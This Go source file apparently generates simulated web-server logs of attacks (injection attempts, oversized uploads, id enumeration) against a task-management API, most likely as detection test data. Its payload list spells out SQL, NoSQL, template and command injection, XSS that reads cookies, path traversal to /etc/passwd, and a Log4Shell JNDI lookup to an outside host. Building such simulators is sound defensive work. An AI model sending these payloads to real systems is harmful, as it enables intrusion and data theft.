package main

import (
	"math/rand/v2"
	"net/url"
	"strings"

	. "github.com/portcullis/portcullis/tools/internal/simlog"
)

// injection is an ordinary signed-in session (boards, tasks, searches)
// in which a share of the requests carry a payload: in the search box,
// in a task list's filter or sort, in GraphQL variables, in an id.
func (w *world) injection(r *rand.Rand) {
	c := w.attacker(r, "injection")
	ua, kind := w.disguise(r)
	start, end := w.span(r, 180, 600)
	d := w.insider(r, c, start, end, ua, kind)
	ws := d.ws()
	share := Uniform(r, 0.15, 0.45)
	pRaw, pOnce := Uniform(r, 0, 0.4), Uniform(r, 0.6, 1)
	d.t = max(d.t, start)
	for first := true; d.t < end; first = false {
		if !first {
			d.think(5)
			if !Chance(r, share) {
				[]func(){d.board, d.task, d.myTasks, d.inbox}[r.IntN(4)]()
				continue
			}
		}
		pl := Pick(r, payloads[r.IntN(len(payloads))])
		p := EncodeQuery(r, pl, rawQuery, pRaw, pOnce)
		method, path, body := "GET", "", int64(0)
		switch r.IntN(7) {
		case 0:
			path = "/api/v2/search?q=" + p + "&ws=" + ws
		case 1:
			path = "/api/v2/search/suggest?q=" + p + "&ws=" + ws
		case 2:
			path = "/api/v2/projects/" + d.project() + "/tasks?filter=" + p + "&sort=-updated"
		case 3:
			path = "/api/v2/projects/" + d.project() + "/tasks?view=list&sort=" + p
		case 4:
			path = "/graphql?operationName=SearchEverything&variables=" + url.QueryEscape(`{"q":"`+pl+`","ws":"`+ws+`"}`)
		case 5:
			method, path, body = "POST", "/graphql", 600+int64(len(pl)) // the payload in the body
		default:
			path = "/api/v2/docs/" + p
		}
		status := []int{400, 200, 500, 403}[Weighted(r, []float64{0.45, 0.4, 0.1, 0.05})]
		d.attack = true
		d.send(method, path, status, body, kb(r, 1.5), 60)
		d.attack = false
	}
}

// rawQuery is what a tool that sends a payload nearly raw still escapes.
var rawQuery = strings.NewReplacer(" ", "+", "&", "%26", "#", "%23")

var payloads = [][]string{
	{"' OR '1'='1", "1' OR 1=1-- -", "' UNION SELECT NULL,email,password_hash FROM users-- -", "1 AND SLEEP(5)", "'; WAITFOR DELAY '0:0:5'--", `" OR ""="`, "1) OR (1=1", "' AND extractvalue(1,concat(0x7e,(select version())))-- -"},
	{"<script>alert(1)</script>", `"><img src=x onerror=alert(document.cookie)>`, "<svg/onload=confirm(1)>", "javascript:alert(1)", `<iframe srcdoc="<script>parent.alert(1)</script>">`},
	{"{{7*7}}", "${7*7}", "<%= 7*7 %>", "{{constructor.constructor('return process')()}}", "#{7*7}", "{{''.__class__.__mro__[1].__subclasses__()}}"},
	{"../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "....//....//etc/passwd", "/etc/passwd%00.png"},
	{`{"$ne":null}`, `{"$gt":""}`, `{"$where":"sleep(5000)"}`, "${jndi:ldap://k3x9.oast.fun/a}", "; cat /etc/passwd", "`id`"},
}

// bigUploads is a signed-in account sending files of 40 to 400 MB to the
// attachments endpoint a few times a minute, in one request each, to use
// the workspace as free storage or to tie up the upload path; those over
// the site's limit are cut off early with 413.
func (w *world) bigUploads(r *rand.Rand) {
	s := w.s
	c := w.attacker(r, "upload")
	ua, kind := w.disguise(r, "python-requests/2.32.3", "curl/8.5.0")
	start, end := w.span(r, 180, 600)
	d := w.insider(r, c, start, end, ua, kind)
	d.t = max(d.t, start)
	bw := LogUniform(r, 5, 60) // MB a second
	for d.t < end {
		task := d.taskID()
		if Chance(r, 0.2) {
			d.attack = false
			d.get("/api/v2/tasks/"+task, 200, 6, 45)
			d.pause(1, 4)
		}
		mb := LogUniform(r, 40, 400)
		size := int64(mb * (1 << 20))
		path := Pick(r, []string{"/api/v2/files?task=" + task + "&name=" + Hex(r, 8) + ".mp4", "/api/v2/tasks/" + task + "/attachments"})
		d.attack = true
		if size > s.uploadLimit {
			part := int64(LogUniform(r, 64<<10, 8<<20))
			d.record("POST", path, 413, part, 220, 1000*float64(part)/(1<<20)/bw)
		} else {
			d.record("POST", path, Pick(r, []int{201, 201, 201, 507}), size, kb(r, 0.8), 1000*mb/bw)
		}
		d.t += Sec(d.ms/1000) + Sec(Uniform(r, 5, 25))
	}
}

// enumeration walks ids it does not own: workspace ids (403 where one
// exists, 404 where none), document ids (now and then a document shared
// publicly answers), or invitation tokens, mostly gone.
func (w *world) enumeration(r *rand.Rand) {
	c := w.attacker(r, "enumeration")
	ua, kind := w.disguise(r, "python-requests/2.32.3", "PostmanRuntime/7.42.0")
	start, end := w.span(r, 120, 540)
	d := w.insider(r, c, start, end, ua, kind)
	d.t = max(d.t, start)
	mode := r.IntN(3)
	id := []int{w.s.tenants[0].id - r.IntN(5000), w.s.docBase + r.IntN(400000), 0}[mode]
	step := 1
	if Chance(r, 0.3) {
		step = 1 + r.IntN(9)
	}
	rate := LogUniform(r, 0.5, 6)
	d.attack = true
	for ; d.t < end; d.t += Sec(r.ExpFloat64() / rate) {
		id += step
		switch mode {
		case 0:
			d.send("GET", "/api/v2/workspaces/"+itoa(id), Pick(r, []int{403, 403, 404}), 0, 140, 15)
		case 1:
			if Chance(r, 0.04) {
				d.send("GET", "/api/v2/docs/"+itoa(id), 200, 0, kb(r, 40), 60)
			} else {
				d.send("GET", "/api/v2/docs/"+itoa(id), Pick(r, []int{403, 403, 404}), 0, 140, 15)
			}
		default:
			d.send("GET", "/api/v2/invitations/"+Hex(r, 16)+Hex(r, 6), []int{404, 410}[Weighted(r, []float64{0.97, 0.03})], 0, 130, 20)
		}
	}
}
